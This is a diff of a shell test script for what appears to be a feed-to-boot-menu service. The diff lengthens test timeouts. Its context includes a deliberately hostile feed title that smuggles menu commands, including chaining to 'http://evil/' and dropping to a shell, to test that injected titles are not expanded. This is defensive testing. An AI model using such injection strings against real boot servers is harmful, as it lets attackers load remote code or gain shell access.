@@ -148,7 +148,7 @@ for title in "no enclosure" "bad length" "bad digest"; do
 done
 for title in "local file" "other scheme" metadata "metadata, mapped" "metadata, as a number"; do
 	[[ -n $(item_named "$title" .id) ]] || continue
-	wait_for 20 settled "$title" || true
+	wait_for 60 settled "$title" || true
 	like "$title: not fetched" "$(item_named "$title" '"\(.state): \(.error)"')" "failed: .*(not allowed|may not name files|scheme)"
 done
 
@@ -158,7 +158,7 @@ hostile='x ${initrd} &amp;&amp; chain http://evil/ || shell ; # \ &#9; &#13; &#1
 rss "$hostile$(printf 'y%.0s' {1..4096})" hostile >"$origin/hostile.xml"
 add "http://127.0.0.1:$origin_port/hostile.xml"
 is "a hostile title: the feed is read" "$status" 0
-wait_for 20 menu_shows evil || true
+wait_for 60 menu_shows evil || true
 line=$(menu | grep evil || true)
 is "a hostile title: is one line of the menu" "$(menu | grep -c evil)" 1
 unlike "a hostile title: nothing in it is expanded" "$line" '\$\{initrd'
@@ -183,7 +183,7 @@ rss "Still here" still >"$origin/still.xml"
 start_proxy "$origin_port"
 feed_port=$proxy_port
 add "http://127.0.0.1:$feed_port/still.xml"
-wait_for 20 menu_shows "Still here"
+wait_for 60 menu_shows "Still here"
 ok "a feed is in the menu" menu_shows "Still here"
 still=$(feed_of /still.xml .id)
 nr=0
@@ -196,7 +196,7 @@ while IFS='|' read -r fault message; do
 	fi
 	before=$(failures_of_still)
 	api POST "/v1/feeds/$still/refresh" >"$work/answer" 2>&1
-	wait_for 20 one_more_failure "$before" || true
+	wait_for 60 one_more_failure "$before" || true
 	like "feed server, $fault: says why" "$(feed_of /still.xml .error)" "$message"
 	is "feed server, $fault: the item is still there" "$(item_named "Still here" '"\(.state) \(.present)"')" "ready true"
 	ok "feed server, $fault: and in the menu" menu_shows "Still here"
